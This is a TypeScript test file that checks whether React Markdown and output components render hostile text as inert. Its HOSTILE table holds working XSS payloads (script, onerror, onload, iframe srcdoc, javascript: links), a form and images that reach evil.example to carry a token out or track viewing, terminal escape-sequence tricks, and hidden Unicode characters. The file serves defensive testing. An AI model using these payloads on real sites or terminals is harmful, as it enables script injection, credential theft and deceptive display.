import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { Markdown } from '../parts/markdown.tsx';
import { Output } from '../parts/output.tsx';
import { visible } from './visible.ts';

// What agents, tickets and tools can write into any field: it is shown as text, and never as anything else.

const ESC = '\u001b';
const HOSTILE: Record<string, string> = {
  script: '<script>parent.bad = 1</script>',
  image: '"><img src=x onerror="bad()">',
  svg: '<svg/onload=bad()><style>*{display:none}</style>',
  frame: '<iframe srcdoc="<script>bad()</script>"></iframe>',
  form: '</pre></div></main><form action=//evil.example><input name=token>',
  link: '[press](javascript:bad()) <a href="data:text/html,bad">here</a> [out](vbscript:bad)',
  picture: '![seen](https://evil.example/seen.png) <link rel=stylesheet href=//evil.example>',
  entity: '&lt;script&gt;bad()&lt;/script&gt; &#60;img src=x onerror=bad()&#62;',
  ansi: `${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}[1;1Hgone ${ESC}[38;2;1;2;3mfine`,
  osc: `${ESC}]8;;javascript:bad()${ESC}\\press${ESC}]8;;${ESC}\\ ${ESC}]0;title\u0007 ${ESC}]52;c;YmFk\u0007`,
  oscHttp: `${ESC}]8;;https://evil.example${ESC}\\press${ESC}]8;;${ESC}\\`,
  bidi: 'if (admin\u202E \u2066// only\u2069 \u2066) {',
  zeroWidth: 'sh\u200Bop\u200D\u2060\uFEFF\u00AD',
  tags: `shop${'\u{E0073}\u{E0068}'}`,
  controls: '\u0000\u0007\u0008\u000B\u007F\u0085\u009B31m',
  surrogate: '\uD800 alone \uDC00',
};
const LONG = 'x<i>'.repeat(262_144);

/** Every element in the markup, with its attributes. */
const elements = (html: string): string[] =>
  [...html.matchAll(/<([a-z][^\s/>]*)([^>]*)>/gi)].map(([one]) => one);
const shown = (text: string) => visible(text);

test.each(Object.entries(HOSTILE))('what a program printed is text: %s', (_, text) => {
  const html = renderToStaticMarkup(createElement(Output, { text: shown(text) }));
  for (const one of elements(html))
    expect(one).toMatch(/^<(?:pre class="output" tabindex="0"|span class="[\w -]*")>$/i);
});

test.each(Object.entries(HOSTILE))(
  'a ticket is Markdown, and nothing of it runs, loads or leads astray: %s',
  (_, text) => {
    const html = renderToStaticMarkup(createElement(Markdown, { text: shown(text) }));
    for (const one of elements(html)) {
      expect(one).not.toMatch(/^<(?:script|img|svg|style|iframe|form|input|link|object|embed|base|meta)/i);
      expect(one).not.toMatch(/\son\w+=|srcdoc|style=/i);
      const href = /href="([^"]*)"/.exec(one)?.[1];
      if (href !== undefined) expect(href).toMatch(/^(?:https?:|mailto:|#|$)/i);
    }
  },
);

test.each(Object.entries(HOSTILE))('nothing is hidden in what is shown: %s', (_, text) => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what is looked for
  const left = shown(text).replace(/\u001b\[[0-9;]{0,32}m|[\t\n\r]/g, '');
  expect(left).not.toMatch(/\p{Cc}|[\u200b\u2028-\u202e\u2060\u2066-\u2069\ufeff]/u);
  expect(left).not.toMatch(/[\u{E0000}-\u{E007F}]/u);
});

test('a line of a megabyte is shown whole, as text', () => {
  const html = renderToStaticMarkup(createElement(Output, { text: shown(LONG) }));
  expect(elements(html)).toHaveLength(1);
  expect(html.length).toBeGreaterThan(LONG.length);
});
